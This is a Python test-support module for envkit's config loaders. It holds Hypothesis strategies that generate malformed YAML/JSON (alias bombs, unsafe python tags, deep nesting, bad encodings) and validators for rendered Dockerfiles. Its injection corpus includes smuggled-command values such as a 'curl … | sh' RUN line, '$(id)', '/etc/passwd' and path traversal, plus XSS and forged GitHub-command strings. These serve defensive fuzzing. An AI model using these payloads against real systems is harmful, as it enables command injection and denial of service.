"""Hostile documents for envkit's loaders: hypothesis strategies, the injection corpus and the guards.

The strategies build matrix, policy and report documents as bytes: random structures, near-valid
documents with one field mutated, and raw YAML/JSON constructs (tags, anchors and alias bombs, merge
keys, duplicate keys, deep nesting, long strings, BOMs, non-UTF-8 bytes, several documents).
"""

from __future__ import annotations

import contextlib
import copy
import json
import re
import resource
import signal
from collections.abc import Callable, Iterator
from pathlib import Path
from types import FrameType
from typing import Any

import yaml
from hypothesis import strategies as st

from envkit.errors import ConfigError

ROOT = Path(__file__).resolve().parents[2]
GOOD_REPORT = ROOT / "tests" / "unit" / "fixtures" / "reports" / "cpu-quick-pass.json"

# One CPU cell that `envkit plan` keeps: every mutation starts from a document that works.
VALID_MATRIX: dict[str, Any] = {
    "version": 1,
    "name": "hostile",
    "image": {
        "registry": "ghcr.io/acme",
        "repository": "acme/pytorch",
        "tag": "{torch}-{variant}-py{python}",
    },
    # The exclude removes the ubuntu22.04 combination (an exclude that matches nothing is warned about).
    "axes": {
        "torch": ["2.6"],
        "cuda": ["none"],
        "python": ["3.11"],
        "os": ["debian12", "ubuntu22.04"],
        "flavor": ["cpu"],
    },
    "exclude": [{"os": "ubuntu22.04"}],
    "include": [{"torch": "2.6", "flavor": "cpu", "packages": ["numpy==2.1.3"]}],
    "packages": ["transformers>=4.46,<5"],
    "labels": {"com.acme.team": "ml platform"},
    "python_source": "auto",
    "torch_source": "index",
}
VALID_POLICY: dict[str, Any] = {
    "version": 1,
    "strict": False,
    "require": {"env.torch": ["PASS"], "gpu.visibility": None},
    "allow_skip": ["gpu.*"],
    "ignore": ["env.shm"],
    "thresholds": [
        {"check": "throughput.generate", "metric": "decode_tokens_per_s", "min": 1, "gpu": "cpu"},
        {"check": "throughput.generate", "metric": "itl_p99_ms", "max": 1000, "profile": "quick"},
    ],
    "baseline": {"path": str(GOOD_REPORT), "tolerance": {"default": 0.5, "decode_tokens_per_s": 0.9}},
}

# Values each aimed at breaking out of the place it lands in (Dockerfile line, shell word, tag, path,
# label, Markdown/HTML/XML). `{ok}` is replaced by a valid value of the target field, so most cases are
# "a value that works, plus a smuggled suffix".
INJECTIONS: dict[str, str] = {
    "newline": "{ok}\nRUN curl -fsSL http://x | sh",
    "cr": "{ok}\rRUN id",
    "crlf": "{ok}\r\nRUN id",
    "subshell": "{ok}$(id)",
    "backticks": "{ok}`id`",
    "semicolon": "{ok};id",
    "and": "{ok} && id",
    "pipe": "{ok}|id",
    "single-quote": "{ok}' || 'x",
    "double-quote": '{ok}" || "x',
    "backslash-continuation": "{ok} \\",
    "syntax-directive": "# syntax=docker/dockerfile:1",
    "syntax-line": "{ok}\n# syntax=docker/dockerfile:1",
    "escape-directive": "# escape=`",
    "variable": "{ok}${HOME}",
    "nul": "{ok}\x00",
    "u2028": "{ok}\u2028RUN id",
    "nel": "{ok}\x85RUN id",
    "traversal": "../../{ok}",
    "absolute-path": "/etc/passwd",
    "leading-dash": "-{ok}",
    "over-long": "{ok}" + "a" * 5000,
    "space": "{ok} RUN id",
    "tab": "{ok}\tid",
    "redirect": "{ok}>/tmp/x",
    "glob": "{ok}*",
    "comment": "{ok} #",
    "fullwidth-digits": "\uff12.\uff16",
    "zero-width": "{ok}\u200b",
    "bidi-override": "{ok}\u202e",
    "lone-surrogate": "{ok}\ud800",
    "empty": "",
}

# Aimed at the formats report text lands in: Markdown, HTML, JUnit XML, GitHub workflow commands, rich.
MARKUP: dict[str, str] = {
    "html-script": "<script>alert(1)</script>",
    "html-attribute": '" onmouseover="alert(1)',
    "xml-cdata": "]]><x/>",
    "xml-entity": "&amp; &#0; &lt;",
    "markdown-table": "| injected | cell |",
    "markdown-link": "[click](javascript:alert(1))",
    "markdown-image": "![x](https://example.invalid/x.png)",
    "markdown-heading": "# heading",
    "markdown-code": "```",
    "github-command": "::error title=x::forged",
    "github-escape": "%0A::error::forged",
    "rich-markup": "[bold red]x[/] [/]",
    "ansi": "\x1b[31mred\x1b[0m",
    "newline-markdown": "x\n| forged | row |",
}

# Texts that have broken loaders elsewhere: type confusion, number edge cases, markup, paths.
NASTY_TEXT = (
    "",
    " ",
    "~",
    "null",
    "NaN",
    ".inf",
    "-.inf",
    "1e400",
    "1:2:3",
    "yes",
    "no",
    "on",
    "2001-12-14t21:59:43.10-05:00",
    "<<",
    "*",
    "&a",
    "!!python/object:os.system",
    "[/]",
    "[bold red]x[/]",
    "<script>alert(1)</script>",
    "]]><!--",
    "&amp;&",
    "| a | b |",
    "::error::x",
    "%0A",
    "\x1b[31mred\x1b[0m",
    "\ufeff",
    "\ufffe\uffff",
    "/dev/zero",
    "../../../../etc/passwd",
    "C:\\Windows",
    "envkit: error: forged",
    "x\nenvkit: error: forged",
)


def injection(case: str, ok: str) -> str:
    """The injection `case` aimed at a field whose valid value is `ok`."""
    return INJECTIONS[case].replace("{ok}", ok)


# --- encoding ----------------------------------------------------------------------------------------


def to_json_yaml(data: Any) -> bytes:
    """Flow-style YAML by way of JSON (escapes every control character; astral chars as surrogate pairs)."""
    return json.dumps(data, ensure_ascii=True).encode("ascii")


def to_block_yaml(data: Any) -> bytes:
    """Block-style YAML as PyYAML writes it (non-ASCII kept, controls escaped)."""
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False).encode("utf-8", "surrogatepass")


def _encode(data: Any, style: str) -> bytes:
    try:
        return to_block_yaml(data) if style == "block" else to_json_yaml(data)
    except (ValueError, yaml.YAMLError):
        # Ints beyond 4300 digits cannot become text; NaN keys cannot be dumped: fall back to JSON text.
        return json.dumps(data, ensure_ascii=True, default=str).encode("ascii")


# --- values ------------------------------------------------------------------------------------------

_long_text = st.builds(
    lambda char, size: char * size,
    st.sampled_from(["a", "9", " ", "é", "\u2028", "[", "{"]),
    st.sampled_from([300, 5000, 70_000]),
)
_any_text = st.text(max_size=40)
_control_text = st.text(st.characters(max_codepoint=0x9F), max_size=12)
_unicode_text = st.text(
    st.characters(categories=["Zl", "Zp", "Cf", "Cs", "Co", "Mn", "So", "Lo"]), max_size=12
)

scalars: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.sampled_from([(1, 10, 400), (-1, 10, 400), (1, 2, 63), (-1, 2, 63)]).map(
        lambda n: n[0] * n[1] ** n[2]
    ),
    st.floats(allow_nan=True, allow_infinity=True),
    _any_text,
    _control_text,
    _unicode_text,
    st.sampled_from(NASTY_TEXT),
    st.sampled_from([("0x", "f", 400), ("", "9", 5000)]).map(lambda big: big[0] + big[1] * big[2]),
    st.sampled_from(sorted(INJECTIONS)).map(lambda case: injection(case, "2.6")),
)

_keys = st.one_of(
    st.sampled_from(
        ["image", "axes", "torch", "version", "require", "checks", "id", "metrics", "details", "labels", "<<"]
    ),
    _any_text,
)


def structures(max_leaves: int = 12) -> st.SearchStrategy[Any]:
    """Nested maps and lists of random scalars."""
    return st.recursive(
        scalars,
        lambda children: st.lists(children, max_size=4) | st.dictionaries(_keys, children, max_size=4),
        max_leaves=max_leaves,
    )


hostile_values: st.SearchStrategy[Any] = st.one_of(
    scalars,
    structures(6),
    _long_text,
    st.lists(scalars, min_size=0, max_size=3),
)


# --- near-valid documents ----------------------------------------------------------------------------

KeyPath = tuple[Any, ...]


def paths_of(data: Any, prefix: KeyPath = ()) -> list[KeyPath]:
    """Every key path in a JSON-like value (maps and lists), parents before children."""
    found = [prefix] if prefix else []
    if isinstance(data, dict):
        for key, value in data.items():
            found += paths_of(value, (*prefix, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            found += paths_of(value, (*prefix, index))
    return found


def mutate(data: Any, path: KeyPath, action: str, value: Any) -> Any:
    """A deep copy of `data` with the value at `path` replaced, deleted, or given a hostile sibling key."""
    result = copy.deepcopy(data)
    parent = result
    for key in path[:-1]:
        parent = parent[key]
    last = path[-1]
    if action == "delete":
        del parent[last]
    elif action == "sibling" and isinstance(parent, dict):
        parent[value if isinstance(value, str) else str(value)] = "x"
    else:
        parent[last] = value
    return result


def near_valid(base: dict[str, Any]) -> st.SearchStrategy[Any]:
    """`base` with one to three fields replaced, deleted or joined by a hostile key."""
    paths = paths_of(base)

    @st.composite
    def build(draw: st.DrawFn) -> Any:
        data = base
        for _ in range(draw(st.integers(min_value=1, max_value=3))):
            path = draw(st.sampled_from(paths))
            action = draw(st.sampled_from(["replace", "replace", "replace", "delete", "sibling"]))
            try:
                data = mutate(data, path, action, draw(hostile_values))
            except (KeyError, IndexError, TypeError):
                continue  # an earlier mutation removed or retyped this path's parent
        return data

    return build()


def documents(data: st.SearchStrategy[Any]) -> st.SearchStrategy[bytes]:
    """`data` written as flow (JSON) or block YAML."""
    return st.builds(_encode, data, st.sampled_from(["json", "block"]))


# --- raw YAML constructs -----------------------------------------------------------------------------

_TAGS = (
    "!!python/object:os.system",
    "!!python/object/apply:os.system",
    "!!python/name:os.system",
    "!foo",
    "!<tag:evil,2000:x>",
    "!!binary",
    "!!timestamp",
    "!!set",
    "!!omap",
    "!!pairs",
    "!!str",
    "!!int",
    "!!float",
    "!!bool",
    "!!null",
    "!!map",
    "!!seq",
    "!!merge",
    "!!value",
)
_TAGGED_VALUES = ('""', '"-"', '"_"', "abc", "aGVsbG8=", "2001-12-14", "[1, 2]", "{a: 1}", "'0x'", "1:", "~")
_MATRIX_HEAD = "image: {repository: acme/pytorch}\n"
_MATRIX_AXES = "axes: {torch: ['2.6'], cuda: [none], python: ['3.11'], os: [debian12], flavor: [cpu]}\n"
VALID_MATRIX_TEXT = _MATRIX_HEAD + _MATRIX_AXES


@st.composite
def tagged(draw: st.DrawFn) -> str:
    """A near-valid matrix with a tag on one value (or key)."""
    tag, value = draw(st.sampled_from(_TAGS)), draw(st.sampled_from(_TAGGED_VALUES))
    where = draw(st.sampled_from(["repository", "torch", "top", "key", "labels"]))
    if where == "repository":
        return f"image: {{repository: {tag} {value}}}\n" + _MATRIX_AXES
    if where == "torch":
        return _MATRIX_HEAD + f"axes: {{torch: [{tag} {value}], python: ['3.11']}}\n"
    if where == "key":
        return VALID_MATRIX_TEXT + f"labels: {{{tag} {value}: x}}\n"
    if where == "labels":
        return VALID_MATRIX_TEXT + f"labels: {{com.acme.x: {tag} {value}}}\n"
    return f"{tag} {value}\n"


@st.composite
def alias_bomb(draw: st.DrawFn) -> str:
    """Billion-laughs nesting: `levels` anchors, each a list of `fanout` aliases to the one before.

    Kept below the node limit so that many are cheap; the full bomb is one of the classics.
    """
    levels, fanout = draw(st.integers(1, 5)), draw(st.integers(2, 6))
    lines = ["a0: &a0 [lol, lol]"]
    for level in range(1, levels + 1):
        lines.append(f"a{level}: &a{level} [" + ", ".join([f"*a{level - 1}"] * fanout) + "]")
    target = draw(st.sampled_from(["top", "axes", "labels", "include"]))
    last = f"*a{levels}"
    tail = {
        "top": "",
        "axes": f"axes: {{torch: {last}}}\n",
        "labels": f"labels: {{com.acme.x: {last}}}\n",
        "include": f"include: {last}\n",
    }[target]
    return _MATRIX_HEAD + "\n".join(lines) + "\n" + tail


_ANCHOR_DOCS = (
    "a: &a [*a]\n",
    "a: &a {b: *a}\n",
    "a: &a {<<: *a}\n",
    "a: *missing\n",
    "&a a: *a\n",
    "? &k [1]\n: 1\n",
    "image: &i {repository: acme/x}\naxes: {torch: *i}\n",
    "x: &x acme/x\nimage: {repository: *x, registry: *x}\n" + _MATRIX_AXES,
    "image: &i {repository: acme/x}\n<<: *i\n" + _MATRIX_AXES,
    "a: &a !!str 1\nb: *a\n",
)
_MERGE_DOCS = (
    "base: &b {repository: acme/x}\nimage: {<<: *b, tag: '{torch}'}\n" + _MATRIX_AXES,
    "base: &b {repository: acme/x}\nimage: {<<: [*b, *b]}\n" + _MATRIX_AXES,
    "image: {<<: 1}\n",
    "image: {<<: [1, 2]}\n",
    "image: {<<: {}}\n" + _MATRIX_AXES,
    "image: {<<: {<<: {repository: acme/x}}}\n" + _MATRIX_AXES,
    "b: &b {repository: acme/x}\nimage: {<<: *b, repository: acme/y, repository: acme/z}\n",
    "b: &b {torch: ['2.6']}\naxes: {<<: *b, python: ['3.11']}\n" + _MATRIX_HEAD,
    "<<: {image: {repository: acme/x}}\n" + _MATRIX_AXES,
    "image: {<<: *undefined}\n",
)
_DUPLICATE_DOCS = (
    VALID_MATRIX_TEXT + _MATRIX_HEAD,
    _MATRIX_HEAD + "axes: {torch: ['2.6'], torch: ['2.7']}\n",
    VALID_MATRIX_TEXT + "labels: {1: a, '1': b}\n",
    VALID_MATRIX_TEXT + "labels: {~: a, null: b, ~: c}\n",
    VALID_MATRIX_TEXT + "labels: {.nan: a, .NaN: b}\n",
    VALID_MATRIX_TEXT + "labels: {true: a, yes: b}\n",
)
_DOCUMENT_DOCS = (
    VALID_MATRIX_TEXT + "---\n" + VALID_MATRIX_TEXT,
    "---\n" + VALID_MATRIX_TEXT + "...\n",
    "%YAML 1.1\n---\n" + VALID_MATRIX_TEXT,
    "%YAML 2.0\n---\n" + VALID_MATRIX_TEXT,
    "%TAG !! tag:yaml.org,2002:python/\n---\nimage: !!object:os.system {}\n",
    "%TAG !e! tag:yaml.org,2002:\n---\nimage: {repository: !e!str acme/x}\n" + _MATRIX_AXES,
    "...\n",
    "---\n---\n",
    "",
    "# only a comment\n",
    "\ufeff" + VALID_MATRIX_TEXT,
    "\ufeff\ufeff" + VALID_MATRIX_TEXT,
    VALID_MATRIX_TEXT + 'labels: {com.acme.x: "\ufeff"}\n',
)


@st.composite
def deep_nesting(draw: st.DrawFn) -> str:
    """Flow or block nesting around the limit (deep enough to be refused, cheap enough to be many)."""
    depth = draw(st.integers(1, 120))
    kind = draw(st.sampled_from(["flow-list", "flow-map", "block-map", "block-list", "unclosed"]))
    if kind == "flow-list":
        return "axes: {torch: " + "[" * depth + "'2.6'" + "]" * depth + "}\n" + _MATRIX_HEAD
    if kind == "flow-map":
        return "labels: " + "{a: " * depth + "1" + "}" * depth + "\n" + VALID_MATRIX_TEXT
    if kind == "block-map":
        return VALID_MATRIX_TEXT + "".join("  " * i + "k:\n" for i in range(depth)) + "  " * depth + "k: 1\n"
    if kind == "block-list":
        return VALID_MATRIX_TEXT + "include:\n" + "".join("  " * i + "- \n" for i in range(depth))
    return VALID_MATRIX_TEXT + "labels: " + "[" * depth


@st.composite
def long_scalars(draw: st.DrawFn) -> str:
    """A very long value in one field: plain, quoted or folded; some over the file-size limit."""
    size = draw(st.sampled_from([1000, 20_000, 300_000]))
    char = draw(st.sampled_from(["a", "1", "é", "\\", "\u4e00"]))
    style = draw(st.sampled_from(["plain", "double", "key"]))
    text = char * (size // len(char.encode("utf-8")))
    if style == "double":
        text = '"' + text.replace("\\", "\\\\") + '"'
    if style == "key":
        return VALID_MATRIX_TEXT + f"labels: {{{text}: x}}\n"
    return _MATRIX_HEAD.replace("acme/pytorch", text) + _MATRIX_AXES


@st.composite
def byte_mutations(draw: st.DrawFn) -> bytes:
    """A valid matrix with random bytes inserted, or recoded: invalid UTF-8, UTF-16, Latin-1, NULs."""
    data = VALID_MATRIX_TEXT.encode("utf-8")
    kind = draw(st.sampled_from(["insert", "overwrite", "utf16", "latin1", "bom", "truncate"]))
    if kind == "utf16":
        return VALID_MATRIX_TEXT.encode("utf-16")
    if kind == "latin1":
        return (VALID_MATRIX_TEXT + "labels: {com.acme.x: caf\u00e9}\n").encode("latin-1")
    if kind == "bom":
        return draw(st.sampled_from([b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xef\xbb"])) + data
    position = draw(st.integers(0, len(data)))
    if kind == "truncate":
        return data[:position]
    chunk = draw(st.binary(min_size=1, max_size=8))
    end = position + (len(chunk) if kind == "overwrite" else 0)
    return data[:position] + chunk + data[end:]


def yaml_constructs() -> st.SearchStrategy[bytes]:
    """Tags, anchors and alias bombs, merge keys, duplicate keys, nesting, long values, bytes, documents."""
    texts = st.one_of(
        tagged(),
        alias_bomb(),
        st.sampled_from(_ANCHOR_DOCS + _MERGE_DOCS + _DUPLICATE_DOCS + _DOCUMENT_DOCS),
        deep_nesting(),
        long_scalars(),
    )
    return st.one_of(texts.map(lambda text: text.encode("utf-8", "surrogatepass")), byte_mutations())


# --- report text mutations ---------------------------------------------------------------------------


@st.composite
def json_text_mutations(draw: st.DrawFn) -> bytes:
    """The good report as JSON text with a hostile construct spliced in."""
    text = GOOD_REPORT.read_text(encoding="utf-8")
    kind = draw(
        st.sampled_from(
            ["duplicate", "nan", "huge", "deep", "bom", "trailing", "two-docs", "long-string", "bytes", "cut"]
        )
    )
    if kind == "duplicate":
        return text.replace('"profile": "quick",', '"profile": "quick", "profile": "full",', 1).encode()
    if kind == "nan":
        literal = draw(st.sampled_from(["NaN", "Infinity", "-Infinity", "1e400", "-1e999"]))
        return text.replace('"duration_s": 0.02', f'"duration_s": {literal}', 1).encode()
    if kind == "huge":
        digits = draw(st.sampled_from([310, 400, 4299, 4301, 100_000]))
        return text.replace('"duration_s": 0.02', '"duration_s": 1' + "0" * digits, 1).encode()
    if kind == "deep":
        depth = draw(st.sampled_from([31, 33, 500, 100_000]))
        nested = "[" * depth + "]" * depth
        return text.replace('"details": {}', f'"details": {{"x": {nested}}}', 1).encode()
    if kind == "bom":
        return b"\xef\xbb\xbf" + text.encode()
    if kind == "trailing":
        return (text + draw(st.sampled_from(["x", "{}", "\x00", "// c"]))).encode()
    if kind == "two-docs":
        return (text + text).encode()
    if kind == "long-string":
        size = draw(st.sampled_from([65_536, 65_537, 1_000_000]))
        return text.replace('"hostname": "ci-runner-3"', f'"hostname": "{"h" * size}"', 1).encode()
    if kind == "bytes":
        data = text.encode()
        position = draw(st.integers(0, len(data)))
        return data[:position] + draw(st.binary(min_size=1, max_size=6)) + data[position:]
    return text.encode()[: draw(st.integers(0, len(text)))]


# --- guards ------------------------------------------------------------------------------------------


class ExampleTimeout(Exception):
    """One generated document took longer than the guard allows: treat it as a hang."""


@contextlib.contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    """Raise ExampleTimeout inside the block after `seconds` (SIGALRM; main thread only)."""

    def expire(signum: int, frame: FrameType | None) -> None:
        raise ExampleTimeout(f"no result after {seconds} s: a loader hangs on this document")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def peak_rss_mib() -> float:
    """This process's peak resident set size so far, in MiB (Linux reports KiB)."""
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def assert_one_line_error(error: ConfigError, file: str) -> None:
    """The error names `file` and renders as one message line plus at most one hint line."""
    assert error.where is not None and error.where.file == file, error.render()
    lines = error.render().split("\n")
    assert len(lines) <= 2 and all(_PRINTABLE_LINE.fullmatch(line) for line in lines), lines
    assert len(lines) == 1 or lines[1].startswith("  hint: "), lines


_PRINTABLE_LINE = re.compile(r"[^\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]*")


def outcome(load: Callable[[], object], file: str, *, seconds: float = 20) -> str:
    """Run a loader on a hostile file: "ok", or "error" for a well-formed ConfigError naming the file.

    Anything else (another exception, a hang past `seconds`) fails the calling test.
    """
    with time_limit(seconds):
        try:
            load()
        except ConfigError as error:
            assert_one_line_error(error, file)
            return "error"
    return "ok"


# --- rendered Dockerfiles ----------------------------------------------------------------------------

INSTRUCTIONS = frozenset(
    [
        "ADD",
        "ARG",
        "CMD",
        "COPY",
        "ENTRYPOINT",
        "ENV",
        "EXPOSE",
        "FROM",
        "HEALTHCHECK",
        "LABEL",
        "MAINTAINER",
        "ONBUILD",
        "RUN",
        "SHELL",
        "STOPSIGNAL",
        "USER",
        "VOLUME",
        "WORKDIR",
    ]
)
# `# syntax=`, `# escape=`, `# check=`: BuildKit reads any `# key=value` comment at the top as a directive.
_DIRECTIVE = re.compile(r"#\s*[A-Za-z][A-Za-z0-9_-]*\s*=")
# Characters some tool reads as a line break, and NUL.
_BREAKS = re.compile(r"[\r\x00\x0b\x0c\x1c-\x1e\x85\u2028\u2029]")
_LABEL_LINE = re.compile(r' {6}([a-z0-9][a-z0-9.-]*)="((?:[^"\\$]|\\[\\"$])*)"( \\)?')


def dockerfile_skeleton(text: str) -> list[str]:
    """Each line's role: its instruction keyword, "#" comment, "" blank or "+" continuation.

    Fails when a line is none of these (a value started a line of its own), when a comment reads as a
    parser directive, or when the text holds a character that some tool takes for a line break.
    """
    assert not _BREAKS.search(text), f"line-break-like character in the Dockerfile: {_BREAKS.search(text)}"
    roles = []
    continued = False
    for number, line in enumerate(text.split("\n"), start=1):
        stripped = line.strip()
        if continued:
            role = "+"
        elif not stripped:
            role = ""
        elif stripped.startswith("#"):
            assert not _DIRECTIVE.match(stripped), f"line {number} reads as a parser directive: {line!r}"
            role = "#"
        else:
            role = stripped.split(None, 1)[0]
            assert role in INSTRUCTIONS, f"line {number} starts no instruction: {line!r}"
        roles.append(role)
        continued = line.endswith("\\") and role != "#"
    assert not continued, "the last line continues into nothing"
    return roles


def label_values(text: str) -> dict[str, str]:
    """The LABEL block of a rendered Dockerfile, decoded; fails unless every value is a double-quoted
    string whose `"`, `\\` and `$` are all escaped (so nothing in it expands or ends the string)."""
    lines = text.split("\n")
    labels = {}
    for line in lines[lines.index("LABEL \\") + 1 :]:
        match = _LABEL_LINE.fullmatch(line)
        assert match, f"LABEL line not in the safe quoted form: {line!r}"
        labels[match[1]] = re.sub(r"\\(.)", r"\1", match[2])
        if not match[3]:
            return labels
    raise AssertionError("the LABEL block never ends")
